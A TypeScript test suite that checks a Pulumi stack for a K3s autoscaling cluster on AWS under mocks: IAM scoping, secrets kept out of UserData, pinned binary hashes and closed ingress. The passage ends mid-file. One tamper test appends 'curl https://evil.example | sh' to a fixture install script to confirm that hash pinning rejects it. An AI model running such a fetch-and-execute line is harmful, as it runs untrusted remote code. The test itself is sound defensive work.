// The Pulumi program under mocks: what it creates, checked against the requirements
// (issue 12's numbered findings are named where a test covers one). AWS's own limits and naming
// rules are in aws-limits.test.ts.
import * as assert from "assert";
import * as fs from "fs";
import { NO_RESOURCE_LEVEL_ACTIONS } from "../src/iam";
import { sha256File } from "../src/files";
import { agentSection, documentedAgentKeys, documentedControllerKeys, yamlKeyPaths } from "./docs";
import {
    ACCOUNT,
    MOCK_GP3_PRICE,
    MOCK_GRAFANA_PASSWORD,
    MOCK_K3S_TOKEN,
    MOCK_SERVER_PRICE,
    MOCK_SERVER_PUBLIC_IP,
    REGION,
    Recorded,
    baseConfig,
    dependsOn,
    fakeBinaries,
    mockOptions,
    ofType,
    one,
    runStack,
    userData,
} from "./harness";

export const T = {
    asg: "aws:autoscaling/group:Group",
    hook: "aws:autoscaling/lifecycleHook:LifecycleHook",
    lt: "aws:ec2/launchTemplate:LaunchTemplate",
    instance: "aws:ec2/instance:Instance",
    subnet: "aws:ec2/subnet:Subnet",
    ingress: "aws:vpc/securityGroupIngressRule:SecurityGroupIngressRule",
    rolePolicy: "aws:iam/rolePolicy:RolePolicy",
    policy: "aws:iam/policy:Policy",
    attachment: "aws:iam/rolePolicyAttachment:RolePolicyAttachment",
    role: "aws:iam/role:Role",
    secret: "aws:secretsmanager/secret:Secret",
    secretVersion: "aws:secretsmanager/secretVersion:SecretVersion",
    param: "aws:ssm/parameter:Parameter",
    bucket: "aws:s3/bucket:Bucket",
    pab: "aws:s3/bucketPublicAccessBlock:BucketPublicAccessBlock",
    versioning: "aws:s3/bucketVersioning:BucketVersioning",
    sse: "aws:s3/bucketServerSideEncryptionConfiguration:BucketServerSideEncryptionConfiguration",
    object: "aws:s3/bucketObjectv2:BucketObjectv2",
    table: "aws:dynamodb/table:Table",
};

export interface PolicyStatement {
    Sid: string;
    Effect: string;
    Action: string | string[];
    Resource: string | string[];
    Condition?: Record<string, Record<string, string>>;
}

export const asList = <X>(x: X | X[]): X[] => (Array.isArray(x) ? x : [x]);
export const statements = (p: Recorded): PolicyStatement[] => JSON.parse(p.inputs.policy).Statement;
const ASG_ARN = `arn:aws:autoscaling:${REGION}:${ACCOUNT}:autoScalingGroup:*:autoScalingGroupName/smartscale-prod-workers`;

const param = (recorded: Recorded[], name: string) => ofType(recorded, T.param).find((p) => p.inputs.name === name);

describe("SmartScale stack under Pulumi mocks", function () {
    const bins = fakeBinaries();
    let recorded: Recorded[];
    let outputs: Record<string, any>;
    let workerUserData: string;
    let serverUserData: string;

    before(async function () {
        const run = await runStack(baseConfig(bins), "prod");
        recorded = run.recorded;
        outputs = run.outputs;
        ({ worker: workerUserData, server: serverUserData } = userData(recorded));
    });

    after(() => fs.rmSync(bins.dir, { recursive: true, force: true }));

    const policiesOf = (kind: "server" | "worker") =>
        ofType(recorded, T.rolePolicy).filter((p) => (kind === "worker" ? p.name === "worker" : p.name.startsWith("server")));
    const actionsOn = (kind: "server" | "worker", action: string) =>
        policiesOf(kind)
            .flatMap(statements)
            .filter((s) => asList(s.Action).includes(action))
            .flatMap((s) => asList(s.Resource));

    describe("instances", () => {
        it("requires IMDSv2 with hop limit 1 on the launch template and the server", () => {
            for (const md of [one(recorded, T.lt).inputs.metadataOptions, one(recorded, T.instance).inputs.metadataOptions]) {
                assert.strictEqual(md.httpTokens, "required");
                assert.strictEqual(md.httpPutResponseHopLimit, 1);
                assert.strictEqual(md.httpEndpoint, "enabled");
            }
        });

        it("uses encrypted gp3 root volumes", () => {
            const ebs = one(recorded, T.lt).inputs.blockDeviceMappings[0].ebs;
            assert.strictEqual(ebs.volumeType, "gp3");
            assert.strictEqual(ebs.encrypted, "true");
            assert.strictEqual(one(recorded, T.lt).inputs.blockDeviceMappings[0].deviceName, "/dev/sda1");
            const root = one(recorded, T.instance).inputs.rootBlockDevice;
            assert.strictEqual(root.volumeType, "gp3");
            assert.strictEqual(root.encrypted, true);
        });

        it("sends bash scripts with every placeholder filled, gzip-compressed", () => {
            for (const ud of [workerUserData, serverUserData]) {
                assert.ok(!ud.includes("@@"), "leftover placeholder");
                assert.match(ud, /^#!\/bin\/bash\n/);
                assert.match(ud, /\nset -euo pipefail\n/);
            }
            assert.strictEqual(one(recorded, T.instance).inputs.userData, undefined, "the server gets userDataBase64 (gzip)");
        });
    });

    describe("finding 1: worker launches at the defaults", () => {
        it("turns instance metadata tags off, so the ASG's '/' tag keys cannot fail a launch", () => {
            assert.strictEqual(one(recorded, T.lt).inputs.metadataOptions.instanceMetadataTags, "disabled");
        });

        it("lets the agent find its ASG without metadata tags (DescribeAutoScalingInstances)", () => {
            assert.deepStrictEqual(actionsOn("worker", "autoscaling:DescribeAutoScalingInstances"), ["*"]);
        });

        it("makes `pulumi up` wait for the minimum workers to be in service, and fail loudly if they never are", () => {
            const asg = one(recorded, T.asg).inputs;
            assert.strictEqual(asg.waitForCapacityTimeout, "20m");
            assert.ok(asg.desiredCapacity >= 1 && asg.minSize === asg.desiredCapacity);
        });

        it("carries the cluster tag that the IAM conditions rely on", () => {
            const tags = one(recorded, T.asg).inputs.tags;
            assert.ok(tags.some((t: any) => t.key === "smartscale.io/cluster" && t.value === "prod" && t.propagateAtLaunch));
        });
    });

    describe("worker Auto Scaling Group", () => {
        it("spans at least two subnets in distinct availability zones", () => {
            const asg = one(recorded, T.asg).inputs;
            const subnets = ofType(recorded, T.subnet);
            assert.ok(asg.vpcZoneIdentifiers.length >= 2);
            assert.deepStrictEqual([...asg.vpcZoneIdentifiers].sort(), subnets.map((s) => `${s.name}-id`).sort());
            const azs = new Set(subnets.map((s) => s.inputs.availabilityZone));
            assert.strictEqual(azs.size, subnets.length);
        });

        it("mixes an on-demand base with a spot share over several instance types, with capacity rebalance", () => {
            const asg = one(recorded, T.asg).inputs;
            assert.strictEqual(asg.capacityRebalance, true);
            const dist = asg.mixedInstancesPolicy.instancesDistribution;
            assert.strictEqual(dist.onDemandBaseCapacity, 1);
            assert.ok(dist.onDemandPercentageAboveBaseCapacity < 100, "some capacity above the base must be spot");
            assert.strictEqual(dist.spotAllocationStrategy, "price-capacity-optimized");
            const types = asg.mixedInstancesPolicy.launchTemplate.overrides.map((o: any) => o.instanceType);
            assert.ok(types.length >= 2, `instance types: ${types}`);
            assert.strictEqual(asg.mixedInstancesPolicy.launchTemplate.launchTemplateSpecification.launchTemplateId, "worker-id");
        });

        it("never lets AWS choose a victim: AZRebalance suspended, instances protected from scale-in", () => {
            const asg = one(recorded, T.asg).inputs;
            assert.deepStrictEqual(asg.suspendedProcesses, ["AZRebalance"]);
            assert.strictEqual(asg.protectFromScaleIn, true);
            // And the controller may re-apply both, on its own tagged group only, and ask EC2
            // whether a Node's instance is gone.
            const scoped = ofType(recorded, T.rolePolicy)
                .filter((p) => p.name.startsWith("server"))
                .flatMap(statements)
                .filter((st) => st.Sid === "ScaleTaggedWorkerGroup");
            assert.strictEqual(scoped.length, 1);
            for (const action of ["autoscaling:SuspendProcesses", "autoscaling:SetInstanceProtection", "autoscaling:UpdateAutoScalingGroup"]) {
                assert.ok(asList(scoped[0].Action).includes(action), action);
            }
            assert.deepStrictEqual(asList(scoped[0].Resource), [ASG_ARN]);
            assert.ok(scoped[0].Condition, "conditioned on the cluster tag");
        });

        it("has a launching hook (ABANDON) and a terminating hook (CONTINUE), heartbeat 300 s by default", () => {
            const hooks = one(recorded, T.asg).inputs.initialLifecycleHooks;
            assert.strictEqual(hooks.length, 2);
            const launch = hooks.find((h: any) => h.lifecycleTransition === "autoscaling:EC2_INSTANCE_LAUNCHING");
            const term = hooks.find((h: any) => h.lifecycleTransition === "autoscaling:EC2_INSTANCE_TERMINATING");
            assert.deepStrictEqual(
                { name: launch.name, defaultResult: launch.defaultResult, heartbeatTimeout: launch.heartbeatTimeout },
                { name: "smartscale-prod-launch", defaultResult: "ABANDON", heartbeatTimeout: 300 },
            );
            assert.deepStrictEqual(
                { name: term.name, defaultResult: term.defaultResult, heartbeatTimeout: term.heartbeatTimeout },
                { name: "smartscale-prod-terminate", defaultResult: "CONTINUE", heartbeatTimeout: 300 },
            );
        });

        it("finding 10: defines each hook once, and a later change to it cannot replace the group", () => {
            assert.strictEqual(ofType(recorded, T.hook).length, 0, "no LifecycleHook resources beside initialLifecycleHooks");
            // Since provider 5.25 a diff in initialLifecycleHooks forces a new group (every worker).
            assert.ok(one(recorded, T.asg).options.ignoreChanges.includes("initialLifecycleHooks"));
            assert.ok(one(recorded, T.asg).options.ignoreChanges.includes("desiredCapacity"));
        });

        it("finding 10: attaches the worker policy before the group launches anything", () => {
            const asg = one(recorded, T.asg);
            assert.ok(dependsOn(asg, T.rolePolicy, "worker"), "the ASG must depend on the worker policy");
            const worker = one(recorded, T.rolePolicy, "worker");
            assert.ok(!dependsOn(worker, T.asg, "workers"), "the worker policy must not wait for the ASG");
            assert.ok(recorded.indexOf(worker) < recorded.indexOf(asg));
        });
    });

    describe("finding 2: a separate agent token for workers", () => {
        it("gives workers the agent token secret only; the server token never leaves the server role", () => {
            const server = one(recorded, T.secret, "k3s-server-token").state.arn;
            const agent = one(recorded, T.secret, "k3s-agent-token").state.arn;
            assert.deepStrictEqual(actionsOn("worker", "secretsmanager:GetSecretValue"), [agent]);
            assert.ok(actionsOn("server", "secretsmanager:GetSecretValue").includes(server));
            assert.ok(!workerUserData.includes(server) && !workerUserData.includes("k3s-server-token"));
            assert.ok(workerUserData.includes(`token_secret_id: ${agent}`));
        });

        it("lets the server publish the agent token, and nothing else write a secret", () => {
            const agent = one(recorded, T.secret, "k3s-agent-token").state.arn;
            assert.deepStrictEqual(actionsOn("server", "secretsmanager:PutSecretValue"), [agent]);
            assert.deepStrictEqual(actionsOn("worker", "secretsmanager:PutSecretValue"), []);
        });

        it("keeps the agent token out of Pulumi: the secret has no version; the server makes its password", () => {
            const versions = ofType(recorded, T.secretVersion).map((v) => v.inputs.secretId);
            assert.ok(!versions.includes("k3s-agent-token-id"), "no SecretVersion for the agent token");
            assert.match(serverUserData, /agent-token-file: \$\{K3S_DIR\}\/agent-token/);
            assert.match(serverUserData, /head -c 32 \/dev\/urandom[^\n]*>"\$\{K3S_DIR\}\/agent-token"/);
        });

        it("publishes only a secure-format agent token (K10 + this cluster's CA hash), never the server token", () => {
            assert.match(serverUserData, /sha256sum "\$\{K3S_SERVER_DIR\}\/tls\/server-ca\.crt"/);
            assert.match(serverUserData, /grep -Eq "\^K10\$\{ca_hash\}::\[a-z\]\+:\.\+\$"/);
            assert.match(serverUserData, /! cmp -s "\$\{K3S_SERVER_DIR\}\/agent-token" "\$\{K3S_SERVER_DIR\}\/token"/);
            const publish = serverUserData.indexOf('saws secret-put --id "$AGENT_TOKEN_SECRET_ID"');
            assert.ok(publish > serverUserData.indexOf("wait_for \"K3s's agent token in the secure format\""));
        });
    });

    describe("finding 3 and 9: the boot downloads nothing from the internet and heartbeats first", () => {
        it("heartbeats the launch hook before any download, then in the background at the agent's interval", () => {
            const first = workerUserData.indexOf("launch_action heartbeat ||");
            assert.ok(first > 0 && first < workerUserData.indexOf('fetch_verified "$AGENT_KEY"'));
            assert.match(workerUserData, /\nHEARTBEAT_INTERVAL='60'\n/);
            assert.match(workerUserData, /heartbeat_loop &\n/);
        });

        it("uses no aws-cli snap, no snap at all, and nothing from GitHub", () => {
            for (const ud of [workerUserData, serverUserData]) {
                assert.ok(!/\bsnap (install|wait)\b|\/snap\//.test(ud), "snap");
                assert.ok(!/githubusercontent|get\.k3s\.io|github\.com\/k3s-io|releases\/download/i.test(ud), "GitHub");
                assert.ok(!/\baws (s3api|s3|secretsmanager|autoscaling|ssm) /.test(ud), "the AWS CLI");
                assert.ok(!/apt-get|pip install/.test(ud), "package installs");
                // Allowed: IMDS, AWS's endpoints, the unit files' Documentation=, and the server's own
                // K3s API (the daemon's kubeconfig; the address the Lambda mode's identity names).
                for (const url of ud.match(/https?:\/\/[^\s'"]+/g) ?? []) {
                    assert.ok(url.startsWith("http://169.254.169.254") || url.startsWith("https://127.0.0.1:6443") || url === "https://${PRIVATE_IP}:6443" || url.includes("amazonaws.com") || url.startsWith("https://github.com/smartscale/smartscale/blob"), `fetches ${url}`);
                }
            }
        });

        it("hosts k3s and its install script in the stack's bucket, pinned by the SHA-256 in k3s-releases.json", () => {
            const objects = ofType(recorded, T.object);
            const k3s = objects.find((o) => o.inputs.key === "k3s/v1.33.4+k3s1/k3s")!;
            const install = objects.find((o) => o.inputs.key === "k3s/v1.33.4+k3s1/install.sh")!;
            assert.strictEqual(k3s.inputs.metadata.sha256, sha256File(`${bins.k3sDir}/k3s`));
            assert.strictEqual(install.inputs.metadata.sha256, sha256File(`${bins.k3sDir}/install.sh`));
            for (const ud of [workerUserData, serverUserData]) {
                assert.ok(ud.includes(`K3S_BINARY_SHA256='${k3s.inputs.metadata.sha256}'`));
                assert.ok(ud.includes(`K3S_INSTALL_VERSION_ID='${install.state.versionId}'`));
                assert.match(ud, /INSTALL_K3S_SKIP_DOWNLOAD=true/);
            }
            assert.deepStrictEqual(
                actionsOn("worker", "s3:GetObject").sort(),
                ["bin/smartscale-agent", "k3s/v1.33.4+k3s1/install.sh", "k3s/v1.33.4+k3s1/k3s"].map((k) => `${one(recorded, T.bucket).state.arn}/${k}`).sort(),
            );
        });

        it("refuses a k3s release whose files do not match the pins", async () => {
            fs.appendFileSync(`${bins.k3sDir}/install.sh`, "\ncurl https://evil.example | sh\n");
            try {
                await assert.rejects(runStack(baseConfig(bins)), /install\.sh has SHA-256 [0-9a-f]{64}, but k3s-releases\.json pins/);
            } finally {
                const content = fs.readFileSync(`${bins.k3sDir}/install.sh`, "utf8");
                fs.writeFileSync(`${bins.k3sDir}/install.sh`, content.replace("\ncurl https://evil.example | sh\n", ""));
            }
        });

        it("waits for the server's agent token instead of failing while the server still installs", () => {
            const wait = workerUserData.indexOf('secret-wait --id "$AGENT_TOKEN_SECRET_ID"');
            assert.ok(wait > 0 && wait < workerUserData.indexOf("smartscale-agent --config /etc/smartscale/agent.yaml join"));
        });
    });

    describe("finding 5: config reaches a running cluster through SSM", () => {
        it("keeps every setting a later `pulumi up` may change out of the server's UserData", () => {
            for (const s of ["workerMaxSize", "hourly_price", "dry_run", "interval: 30s", "asg_name", "min: 1", "max: 10"]) {
                assert.ok(!serverUserData.includes(s), `server UserData contains ${s}`);
            }
        });

        it("writes the controller's config (min/max, prices, dry-run, interval, worker signals) into SSM", () => {
            const p = param(recorded, "/smartscale/prod/controller/config")!;
            const yaml = p.inputs.value as string;
            assert.match(yaml, /\n {2}- asg_name: smartscale-prod-workers\n {4}min: 1\n {4}max: 10\n/);
            assert.match(yaml, /\ninterval: 30s\n/);
            assert.match(yaml, /\ndry_run: false\n/);
            assert.match(yaml, /\n {4}hourly_price: 0\.0416\n/);
            assert.match(yaml, /\n {4}cpu: '\(1 - avg\(rate\(node_cpu_seconds_total\{mode="idle",node_group!=""\}\[5m\]\)\)\) \* 100'\n/);
        });

        it("changes only SSM parameters, never the server, when min/max, price, dry-run or interval change", async () => {
            const changed = await runStack({
                ...baseConfig(bins),
                "smartscale:workerMaxSize": "25",
                "smartscale:workerMinSize": "2",
                "smartscale:workerHourlyPrice": "0.05",
                "smartscale:dryRun": "true",
                "smartscale:controllerInterval": "15s",
            }, "prod");
            const after = userData(changed.recorded);
            assert.strictEqual(after.server, serverUserData, "the server's UserData must not change");
            const yaml = param(changed.recorded, "/smartscale/prod/controller/config")!.inputs.value as string;
            assert.match(yaml, /\n {4}min: 2\n {4}max: 25\n/);
            assert.match(yaml, /\n {4}hourly_price: 0\.05\n/);
            assert.match(yaml, /\ndry_run: true\n/);
            assert.match(yaml, /\ninterval: 15s\n/);
        });

        it("names the controller binary and manifest versions in the release parameter the server syncs", () => {
            const release = JSON.parse(param(recorded, "/smartscale/prod/server/release")!.inputs.value);
            const obj = (key: string) => ofType(recorded, T.object).find((o) => o.inputs.key === key)!;
            assert.deepStrictEqual(release.controller, {
                key: "bin/smartscale-controller",
                versionId: obj("bin/smartscale-controller").state.versionId,
                sha256: sha256File(bins.controller),
            });
            const m = obj("manifests/smartscale.yaml");
            assert.deepStrictEqual(release.manifests["smartscale.yaml"], { key: m.inputs.key, versionId: m.state.versionId, sha256: m.inputs.metadata.sha256 });
            assert.strictEqual(release.bucket, one(recorded, T.bucket).state.bucket);
        });

        it("runs smartscale-sync at boot and every minute, and the server reads exactly its two parameters", () => {
            assert.match(serverUserData, /saws sync --release-param "\$RELEASE_PARAM" --config-param "\$CONTROLLER_CONFIG_PARAM"/);
            assert.match(serverUserData, /OnUnitActiveSec=1min/);
            assert.match(serverUserData, /systemctl enable --now smartscale-sync\.timer/);
            const arn = (n: string) => `arn:aws:ssm:${REGION}:${ACCOUNT}:parameter${n}`;
            assert.deepStrictEqual(actionsOn("server", "ssm:GetParameter").sort(), [arn("/smartscale/prod/controller/config"), arn("/smartscale/prod/server/release")]);
        });

        it("boots the server only once its policy, parameters and artifacts exist", () => {
            const server = one(recorded, T.instance);
            for (const [type, name] of [[T.rolePolicy, "server"], [T.param, "controller-config"], [T.param, "server-release"], [T.object, "server-manifest"], [T.object, "k3s-binary"]]) {
                assert.ok(dependsOn(server, type, name), `${name}`);
            }
        });

        it("runs the controller as the daemon on the server by default, and publishes no identity", () => {
            assert.match(serverUserData, /\nCONTROLLER_MODE='daemon'\n/);
            assert.match(serverUserData, /\nCONTROLLER_IDENTITY_SECRET_ID=''\n/);
            assert.match(serverUserData, /\n {2}systemctl enable --now smartscale-controller\.service\n/);
            assert.ok(!ofType(recorded, T.secret).some((x) => x.name === "controller-kubernetes"), "no identity secret in daemon mode");
            assert.deepStrictEqual(actionsOn("server", "secretsmanager:PutSecretValue"), [one(recorded, T.secret, "k3s-agent-token").state.arn]);
        });
    });

    describe("finding 6: heartbeat cadence", () => {
        it("tells agents to heartbeat every fifth of the hook's timeout (at most a third)", async () => {
            assert.strictEqual(param(recorded, "/smartscale/prod/agent/heartbeat_interval")!.inputs.value, "60s");
            const run = await runStack({ ...baseConfig(bins), "smartscale:lifecycleHeartbeatTimeout": "30" });
            const v = ofType(run.recorded, T.param).find((p) => p.inputs.name.endsWith("/agent/heartbeat_interval"))!.inputs.value;
            assert.ok(Number(v.replace("s", "")) <= 30 / 3, v);
        });
    });

    describe("finding 10: Grafana, agent unit, drain metrics", () => {
        it("opens no port for Grafana: it is reached through an SSH tunnel", () => {
            assert.ok(!ofType(recorded, T.ingress).some((r) => r.inputs.fromPort === 30300));
            assert.strictEqual(outputs.grafanaTunnel, `ssh -N -L 3000:10.20.0.10:30300 ubuntu@${MOCK_SERVER_PUBLIC_IP}`);
        });

        it("orders the agent unit after k3s-agent, so a drain keeps its API access at shutdown", () => {
            assert.match(workerUserData, /\nAfter=network-online\.target k3s-agent\.service\n/);
        });

        it("asks agents to wait for a last scrape before completing the terminate hook", () => {
            assert.strictEqual(param(recorded, "/smartscale/prod/agent/metrics_flush_wait")!.inputs.value, "20s");
        });
    });

    describe("finding 7: fixed costs with real prices", () => {
        /** The uploaded manifest (a StringAsset: its text is a promise). */
        const rules = (r: Recorded[]): Promise<string> =>
            ofType(r, T.object).find((o) => o.inputs.key === "manifests/smartscale.yaml")!.inputs.source.text;

        it("prices the server and its disks from the Price List API into the cost recording rules", async () => {
            const text = await rules(recorded);
            assert.ok(text.includes(`expr: vector(${MOCK_SERVER_PRICE})`), "server price");
            assert.ok(text.includes('labels: {item: server, instance_type: "t3.medium", price_source: "price_list"}'));
            assert.ok(text.includes(`expr: vector(${Number(((30 * MOCK_GP3_PRICE) / 730).toPrecision(6))})`), "server EBS");
            assert.ok(text.includes("expr: vector(0.005)"), "IPv4");
        });

        it("falls back to documented prices, labelled as such, when the Price List cannot be asked", async () => {
            mockOptions.pricingFails = true;
            try {
                const run = await runStack(baseConfig(bins));
                assert.ok((await rules(run.recorded)).includes('labels: {item: server, instance_type: "t3.medium", price_source: "fallback"}'));
            } finally {
                mockOptions.pricingFails = false;
            }
        });

        it("uses configured prices without asking", async () => {
            const run = await runStack({ ...baseConfig(bins), "smartscale:serverHourlyPrice": "0.1", "smartscale:ebsGibMonthPrice": "0.1" });
            assert.match(await rules(run.recorded), /expr: vector\(0\.1\)\n\s+labels: \{item: server, instance_type: "t3\.medium", price_source: "config"\}/);
        });

        it("lets the controller read real on-demand and spot prices", () => {
            assert.deepStrictEqual(actionsOn("server", "pricing:GetProducts"), ["*"]);
            assert.deepStrictEqual(actionsOn("server", "ec2:DescribeSpotPriceHistory"), ["*"]);
        });
    });

    describe("secrets", () => {
        it("stores the generated server token and Grafana password only in Secrets Manager", () => {
            const versions = ofType(recorded, T.secretVersion).map((v) => v.inputs.secretString).sort();
            assert.deepStrictEqual(versions, [MOCK_GRAFANA_PASSWORD, MOCK_K3S_TOKEN].sort());
            for (const r of recorded) {
                if (r.type === T.secretVersion) continue;
                const text = JSON.stringify(r.inputs);
                assert.ok(!text.includes(MOCK_K3S_TOKEN), `${r.type} ${r.name} contains the K3s token`);
                assert.ok(!text.includes(MOCK_GRAFANA_PASSWORD), `${r.type} ${r.name} contains the Grafana password`);
            }
        });

        it("puts no secret material in any UserData; it is fetched from Secrets Manager at boot", () => {
            for (const ud of [workerUserData, serverUserData]) {
                assert.ok(!ud.includes(MOCK_K3S_TOKEN));
                assert.ok(!ud.includes(MOCK_GRAFANA_PASSWORD));
                assert.ok(!/K3S_TOKEN=/.test(ud), "no K3S_TOKEN environment variable");
                assert.ok(!/--token[ =]/.test(ud), "no --token argument");
            }
            const tokenArn = one(recorded, T.secret, "k3s-server-token").state.arn;
            assert.match(serverUserData, /saws secret-get --id "\$SERVER_TOKEN_SECRET_ID" --dest "\$\{K3S_DIR\}\/token"/);
            assert.ok(serverUserData.includes(`SERVER_TOKEN_SECRET_ID='${tokenArn}'`));
            assert.match(serverUserData, /token-file: \$\{K3S_DIR\}\/token/);
        });

        it("names the secrets smartscale/<cluster>/...", () => {
            assert.deepStrictEqual(
                ofType(recorded, T.secret).map((s) => s.inputs.name).sort(),
                ["smartscale/prod/grafana-admin", "smartscale/prod/k3s-agent-token", "smartscale/prod/k3s-server-token"],
            );
        });
    });

    describe("agent SSM parameters", () => {
        it("live under /smartscale/<cluster>/agent/ with the names in docs/interfaces.md (or requested in pulumi/README.md)", () => {
            const params = ofType(recorded, T.param).filter((p) => p.inputs.name.startsWith("/smartscale/prod/agent/"));
            const doc = agentSection() + fs.readFileSync(`${__dirname}/../README.md`, "utf8");
            const byName: Record<string, string> = {};
            for (const p of params) {
                assert.strictEqual(p.inputs.type, "String");
                const key = p.inputs.name.slice("/smartscale/prod/agent/".length);
                assert.ok(doc.includes(`\`${key}\``), `${key} is not documented`);
                byName[key] = p.inputs.value;
            }
            assert.deepStrictEqual(byName, {
                server_url: "https://10.20.0.10:6443",
                launch_hook_name: "smartscale-prod-launch",
                terminate_hook_name: "smartscale-prod-terminate",
                drain_timeout: "10m",
                spot_drain_deadline: "90s",
                on_drain_timeout: "continue",
                eviction_concurrency: "10",
                rebalance_enabled: "false",
                heartbeat_interval: "60s",
                metrics_flush_wait: "20s",
            });
        });

        it("adds node_labels and node_taints only when configured", async () => {
            const run = await runStack({
                ...baseConfig(bins),
                "smartscale:workerNodeLabels": "team=web,node.kubernetes.io/pool=batch",
                "smartscale:workerNodeTaints": "dedicated=batch:NoSchedule",
            });
            const names = ofType(run.recorded, T.param).map((p) => p.inputs.name);
            assert.ok(names.some((n) => n.endsWith("/node_labels")));
            assert.ok(names.some((n) => n.endsWith("/node_taints")));
        });
    });

    describe("IAM", () => {
        it("creates inline role policies only (no managed policy attachments)", () => {
            assert.strictEqual(ofType(recorded, T.attachment).length, 0);
            assert.strictEqual(ofType(recorded, T.policy).length, 0);
            assert.deepStrictEqual(ofType(recorded, T.rolePolicy).map((p) => p.name).sort(), ["server", "server-controller", "worker"]);
            for (const role of ofType(recorded, T.role)) {
                const doc = JSON.parse(role.inputs.assumeRolePolicy);
                assert.deepStrictEqual(doc.Statement, [{ Effect: "Allow", Principal: { Service: "ec2.amazonaws.com" }, Action: "sts:AssumeRole" }]);
            }
        });

        it('has no wildcard action and pins every resource, except read-only calls without resource-level permissions and the ASG id', () => {
            for (const p of ofType(recorded, T.rolePolicy)) {
                for (const s of statements(p)) {
                    assert.strictEqual(s.Effect, "Allow");
                    const actions = asList(s.Action);
                    assert.ok(actions.length > 0);
                    for (const a of actions) {
                        assert.ok(!a.includes("*"), `${p.name}/${s.Sid}: wildcard action ${a}`);
                        assert.match(a, /^[a-z0-9-]+:[A-Za-z0-9]+$/);
                    }
                    for (const r of asList(s.Resource)) {
                        if (r === "*") {
                            for (const a of actions) {
                                assert.ok(NO_RESOURCE_LEVEL_ACTIONS.includes(a), `${p.name}/${s.Sid}: ${a} on "*"`);
                                assert.match(a, /^(autoscaling:Describe|ec2:Describe|pricing:Get)/);
                            }
                        } else if (r.includes("*")) {
                            assert.strictEqual(r, ASG_ARN, `${p.name}/${s.Sid}: wildcard resource ${r}`);
                        } else {
                            assert.match(r, /^arn:aws:/, `${p.name}/${s.Sid}: resource ${r}`);
                        }
                    }
                }
            }
        });

        it("lets only the worker ASG, with the cluster tag condition, be scaled or have its hooks answered", () => {
            const changing = [
                "autoscaling:SetDesiredCapacity",
                "autoscaling:TerminateInstanceInAutoScalingGroup",
                "autoscaling:CompleteLifecycleAction",
                "autoscaling:RecordLifecycleActionHeartbeat",
            ];
            const seen = new Set<string>();
            for (const p of ofType(recorded, T.rolePolicy)) {
                for (const s of statements(p)) {
                    const acts = asList(s.Action).filter((a) => changing.includes(a));
                    if (acts.length === 0) continue;
                    acts.forEach((a) => seen.add(a));
                    assert.deepStrictEqual(asList(s.Resource), [ASG_ARN]);
                    assert.deepStrictEqual(s.Condition, { StringEquals: { "autoscaling:ResourceTag/smartscale.io/cluster": "prod" } });
                }
            }
            assert.deepStrictEqual([...seen].sort(), [...changing].sort());
        });

        it("gives the worker role exactly its token, its parameters, its binaries and its ASG's hooks", () => {
            const actions = policiesOf("worker").flatMap(statements).flatMap((s) => asList(s.Action)).sort();
            assert.deepStrictEqual(actions, [
                "autoscaling:CompleteLifecycleAction",
                "autoscaling:DescribeAutoScalingInstances",
                "autoscaling:DescribeLifecycleHooks",
                "autoscaling:RecordLifecycleActionHeartbeat",
                "s3:GetObject",
                "s3:GetObjectVersion",
                "secretsmanager:GetSecretValue",
                "ssm:GetParameter",
                "ssm:GetParameters",
                "ssm:GetParametersByPath",
            ]);
            for (const r of [...actionsOn("worker", "ssm:GetParameter"), ...actionsOn("worker", "ssm:GetParametersByPath")]) {
                assert.ok(r.startsWith(`arn:aws:ssm:${REGION}:${ACCOUNT}:parameter/smartscale/prod/agent`), r);
            }
        });

        it("gives the controller only the tagged ASG, read-only calls and its own table", () => {
            const controller = statements(one(recorded, T.rolePolicy, "server-controller"));
            const table = one(recorded, T.table).state.arn;
            const dynamo = controller.filter((s) => asList(s.Action).some((a) => a.startsWith("dynamodb:")));
            assert.strictEqual(dynamo.length, 1);
            assert.deepStrictEqual(asList(dynamo[0].Resource), [table]);
        });
    });

    describe("artifacts bucket", () => {
        it("blocks all public access, is versioned and encrypted", () => {
            const pab = one(recorded, T.pab).inputs;
            assert.deepStrictEqual(
                [pab.blockPublicAcls, pab.blockPublicPolicy, pab.ignorePublicAcls, pab.restrictPublicBuckets],
                [true, true, true, true],
            );
            assert.strictEqual(pab.bucket, "artifacts-id");
            assert.strictEqual(one(recorded, T.versioning).inputs.versioningConfiguration.status, "Enabled");
            assert.strictEqual(one(recorded, T.sse).inputs.rules[0].applyServerSideEncryptionByDefault.sseAlgorithm, "AES256");
            assert.ok(!one(recorded, T.bucket).inputs.acl, "no ACL");
        });

        it("uploads both binaries with the SHA-256 computed at deploy time, and the instances check it", () => {
            const objects = ofType(recorded, T.object);
            const agent = objects.find((o) => o.inputs.key === "bin/smartscale-agent")!;
            const controller = objects.find((o) => o.inputs.key === "bin/smartscale-controller")!;
            assert.strictEqual(agent.inputs.metadata.sha256, sha256File(bins.agent));
            assert.strictEqual(controller.inputs.metadata.sha256, sha256File(bins.controller));
            assert.ok(workerUserData.includes(`AGENT_SHA256='${sha256File(bins.agent)}'`));
            assert.ok(workerUserData.includes(`AGENT_VERSION_ID='${agent.state.versionId}'`));
            assert.strictEqual(outputs.agentSha256, sha256File(bins.agent));
            assert.strictEqual(outputs.controllerSha256, sha256File(bins.controller));
        });
    });

    describe("state table", () => {
        it("has cluster_id + record keys, TTL on expires_at, point-in-time recovery and encryption", () => {
            const t = one(recorded, T.table).inputs;
            assert.strictEqual(t.name, "smartscale-prod-state");
            assert.strictEqual(t.hashKey, "cluster_id");
            assert.strictEqual(t.rangeKey, "record");
            assert.deepStrictEqual(t.ttl, { attributeName: "expires_at", enabled: true });
            assert.deepStrictEqual(t.pointInTimeRecovery, { enabled: true });
            assert.deepStrictEqual(t.serverSideEncryption, { enabled: true });
        });
    });

    describe("security groups", () => {
        it("never opens ingress to the whole internet", () => {
            for (const r of ofType(recorded, T.ingress)) {
                assert.notStrictEqual(r.inputs.cidrIpv4, "0.0.0.0/0", r.name);
                assert.notStrictEqual(r.inputs.ipProtocol, "-1", r.name);
            }
        });

        it("opens 6443 only to the admin CIDR and the workers, and nothing else to the admin without a key pair", () => {
            const api = ofType(recorded, T.ingress).filter((r) => r.inputs.fromPort === 6443);
            assert.deepStrictEqual(
                api.map((r) => r.inputs.cidrIpv4 ?? r.inputs.referencedSecurityGroupId).sort(),
                ["198.51.100.7/32", "worker-id"],
            );
            const admin = ofType(recorded, T.ingress).filter((r) => r.inputs.cidrIpv4 === "198.51.100.7/32");
            assert.deepStrictEqual(admin.map((r) => r.inputs.fromPort), [6443]);
        });
    });

    describe("bootstrap contents", () => {
